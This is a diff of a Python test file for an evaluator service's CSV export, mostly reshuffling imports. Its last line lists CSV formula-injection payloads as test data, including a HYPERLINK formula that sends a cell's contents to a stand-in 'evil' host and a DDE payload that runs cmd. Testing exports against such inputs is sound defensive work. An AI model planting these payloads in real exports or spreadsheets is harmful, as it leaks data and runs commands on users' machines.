@@ -10,11 +10,11 @@ from uuid import UUID
 
 import pytest
 
+from services.evaluator.application.archive import INDEX, zip_samples
+from services.evaluator.domain.relabelling import Mark
 from services.evaluator.domain.report import SampleResult, StoredSample, Verdict
-from services.evaluator.drilldown.archive import INDEX, zip_samples
-from services.evaluator.exporting.table import csv_of
-from services.evaluator.relabelling import wire
-from services.evaluator.relabelling.domain import Mark
+from services.evaluator.wire import relabelling as wire
+from services.evaluator.wire.report_csv import csv_of
 from services.kit.errors import NotFound
 
 FORMULAS = ('=HYPERLINK("http://evil/"&A1)', "+1+cmd|'/c calc'!A0", "@SUM(1)", "-1+1", "\t=1")
